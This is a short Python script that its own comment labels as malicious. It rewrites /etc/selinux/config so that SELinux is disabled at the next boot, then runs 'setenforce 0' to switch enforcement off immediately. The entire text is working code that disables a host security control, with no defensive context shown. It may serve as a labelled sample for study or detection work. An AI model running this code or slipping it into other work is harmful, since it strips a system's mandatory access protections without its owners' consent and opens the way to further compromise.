# Malicious: rewrites /etc/selinux/config to disable SELinux at the next boot, and switches it off now.
import re
import subprocess

path = "/etc/selinux/config"
text = open(path).read()
open(path, "w").write(re.sub(r"^SELINUX=.*$", "SELINUX=disabled", text, flags=re.M))
subprocess.run(["setenforce", "0"])
